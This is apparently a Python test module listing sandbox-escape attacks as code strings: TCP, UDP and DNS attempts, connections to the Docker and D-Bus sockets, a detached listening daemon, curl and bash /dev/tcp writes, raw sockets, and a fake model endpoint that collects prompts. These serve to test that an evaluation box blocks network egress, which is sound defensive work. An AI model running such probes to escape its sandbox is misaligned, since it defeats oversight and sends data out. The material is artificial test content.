"""Ways out over sockets: connections, names, listeners, sockets with a path or an abstract name, a model of one's own."""

# ruff: noqa: E501 - code and markup of attacks are data: wrapped, they would be others

from tests.attacks.attack import Attack

_TRY = """
import socket
def attempt(family, kind, address, data=b"answers"):
    try:
        with socket.socket(family, kind) as sock:
            sock.settimeout(1)
            if kind == socket.SOCK_DGRAM: sock.sendto(data, address)
            else:
                sock.connect(address)
                sock.sendall(data)
            print("sent", kind)
    except OSError as error:
        print(type(error).__name__)
"""
_TCP = (
    _TRY
    + 'for host in ("127.0.0.1", "localhost", "0.0.0.0", "::ffff:127.0.0.1"):\n    attempt(socket.AF_INET6 if ":" in host else socket.AF_INET, socket.SOCK_STREAM, (host, @TCP@))\n'
)
_UDP = (
    _TRY
    + 'attempt(socket.AF_INET, socket.SOCK_DGRAM, ("127.0.0.1", @UDP@))\n'
    + """
try:
    print(socket.getaddrinfo("answers.example.com", 80))
except OSError as error:
    print(type(error).__name__)
attempt(socket.AF_INET, socket.SOCK_DGRAM, ("192.0.2.1", 53))
"""
)
_UNIX = (
    _TRY
    + 'for address in ("@OUTSIDE@/trap.sock", "\\0@MARK@", "/run/docker.sock", "/run/dbus/system_bus_socket"):\n    attempt(socket.AF_UNIX, socket.SOCK_STREAM, address)\n'
)
_LISTEN = """
import os, socket, time
if os.fork() == 0:
    os.setsid()
    for family, host in ((socket.AF_INET, "0.0.0.0"), (socket.AF_INET6, "::")):
        try:
            server = socket.socket(family)
            server.bind((host, @FREE@)); server.listen()
            kept = globals().setdefault("servers", []); kept.append(server)
        except OSError: pass
    time.sleep(3600)
    os._exit(0)
"""
_HTTP = """
import subprocess, sys, urllib.request
for command in (["curl", "-m", "2", "http://127.0.0.1:@TCP@/"], [sys.executable, "-c", "import urllib.request as u; u.urlopen('http://127.0.0.1:@TCP@/', timeout=2)"],
                ["sh", "-c", "exec 3<>/dev/tcp/127.0.0.1/@TCP@; echo answers >&3"], ["bash", "-c", "echo answers > /dev/tcp/127.0.0.1/@TCP@"]):
    try:
        subprocess.run(command, timeout=5, capture_output=True)
    except (OSError, subprocess.SubprocessError) as error:
        print(type(error).__name__)
try:
    urllib.request.urlopen("http://127.0.0.1:@TCP@/", timeout=2)
except OSError as error:
    print(type(error).__name__)
"""
_MODEL = """
import os
os.environ |= {"OPENAI_BASE_URL": "http://127.0.0.1:@TCP@/v1", "OPENAI_API_KEY": "x", "OPENAI_MODEL": "x"}
try:
    labkit.ask("summarise {document}", "a secret document")
except Exception as error:
    print(type(error).__name__)
"""
_RAW = """
import socket
for family, kind in ((17, socket.SOCK_RAW), (socket.AF_INET, socket.SOCK_RAW), (40, socket.SOCK_STREAM), (38, socket.SOCK_SEQPACKET)):
    try:
        sock = socket.socket(family, kind, 1 if family == socket.AF_INET else 0)
        print("socket", family)
        if family == 40: sock.settimeout(1); sock.connect((2, @TCP@))
    except OSError as error:
        print(type(error).__name__)
"""

FAMILY = [
    Attack("net-tcp", "a connection to the grader's machine", _TCP, box=True),
    Attack("net-udp-dns", "a datagram, a name looked up", _UDP, box=True),
    Attack("net-unix", "sockets with a path and with an abstract name", _UNIX, box=True),
    Attack("net-listen", "a daemon that listens for everybody", _LISTEN, box=True),
    Attack("net-http", "curl, a shell's device, a child's urllib", _HTTP, box=True),
    Attack("net-model", "a model endpoint of one's own that collects prompts", _MODEL, box=True),
    Attack("net-raw", "raw, packet, host and crypto sockets", _RAW, box=True),
]
